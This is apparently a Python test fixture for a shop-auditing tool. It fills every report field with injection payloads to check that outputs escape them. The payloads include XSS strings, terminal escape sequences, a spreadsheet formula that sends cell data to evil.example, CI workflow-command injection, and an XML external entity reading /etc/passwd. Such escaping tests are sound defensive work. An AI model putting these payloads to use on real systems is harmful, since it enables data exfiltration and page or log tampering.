"""A shop that writes what it should not into everything a report prints."""

from __future__ import annotations

from pathlib import Path

from kassa.checks.assessment import Evidence, Gate
from kassa.journey.recording import Refusal
from kassa.journey.shown import Product, Snapshot
from kassa.reports.audit import Audit, Walk

from .build import walk

SCRIPT = "<script>window.pwned=1</script>"
ATTRIBUTE = '" onmouseover="window.pwned=1" x=\''
IMAGE = "<img src=x onerror=window.pwned=1>"
CLOSING = "</script></style></title></svg><svg onload=window.pwned=1>"
STEER = "\x1b[2J\x1b]0;owned\x07\x9b31mred\u202egnp.exe\u2066\x00\r\x08[bold red]markup[/]"
ALL = f"{SCRIPT}{ATTRIBUTE}{IMAGE}{CLOSING}{{{{ 7*7 }}}}{STEER}"
LINK = "javascript:window.pwned=1"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
MARKDOWN = (
    "[a link](https://evil.example) ![a picture](https://evil.example/x.png) <https://evil.example> "
    "https://evil.example/bare www.evil.example @everyone @owner/team #123 GH-7 a|b | `code` **bold** $x$ &lt;b&gt; {0}"
)
COMMAND = "::error file=x::owned\n::set-output name=a::b\r\n##[add-path]/evil %0A::warning::too"
XML = "]]></system-out><failure/>\x00\x0b\ufffe<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"

HOSTILE = {
    "all": ALL,
    "formula": FORMULA,
    "formula after a separator": f"fine;{FORMULA}",
    "other formula": "@SUM(1+1)",
    "markdown": MARKDOWN,
    "commands": COMMAND,
    "xml": XML,
}
"""What a shop may write, one for each way to break out of a format. Every format is tried with all of them."""


def _spoiled_page(snapshot: Snapshot, text: str) -> Snapshot:
    return snapshot.model_copy(update={"title": text, "url": LINK, "limit": text})


def hostile(folder: Path, text: str = ALL) -> Audit:
    """The tea shop on desktop, with hostile words wherever the shop has a say."""
    kind = walk("desktop", folder)
    recording, assessment = kind.recording, kind.assessment
    spoiled = recording.model_copy(
        update={
            "visit": recording.visit.model_copy(update={"shop": text, "url": LINK, "browser": text}),
            "item": Product(name=text, price=recording.item.price if recording.item else None),
            "snapshots": [_spoiled_page(s, text) for s in recording.snapshots],
            "actions": [
                a.model_copy(
                    update={
                        "target": text,
                        "happened": text,
                        "limit": text,
                        "candidates": [c.model_copy(update={"label": text, "reasons": [text]}) for c in a.candidates],
                    }
                )
                for a in recording.actions
            ],
            "refusals": [Refusal(at=1, net="button", what=text, why=text)],
            "limits": [text],
            "support": [p.model_copy(update={"url": LINK, "link": text, "failure": text}) for p in recording.support],
        }
    )
    findings = [
        f.model_copy(
            update={
                "message": f"{text} {f.message}",
                "measured": text,
                "evidence": [e.model_copy(update={"text": text, "selector": text, "url": LINK}) for e in f.evidence]
                or [Evidence(text=text, url=LINK)],
            }
        )
        for f in assessment.findings
    ]
    culprit = next(f for f in findings if f.check == "field-count")
    checkout = assessment.checkout
    judged = assessment.model_copy(
        update={
            "shop": text,
            "gate": Gate(code=1, reasons=[text], findings=[culprit.fingerprint]),
            "findings": findings,
            "prices": [p.model_copy(update={"label": text, "currency": SCRIPT}) for p in assessment.prices],
            "checkout": checkout.model_copy(
                update={
                    "fields": [
                        f.model_copy(update={"label": text, "autocomplete": text, "inputmode": text})
                        for f in checkout.fields
                    ],
                    "delivery": [c.model_copy(update={"label": text}) for c in checkout.delivery],
                    "payment": [c.model_copy(update={"label": text}) for c in checkout.payment],
                    "last_button": text,
                }
            ),
        }
    )
    return Audit(folder, (Walk(spoiled, judged, folder),))
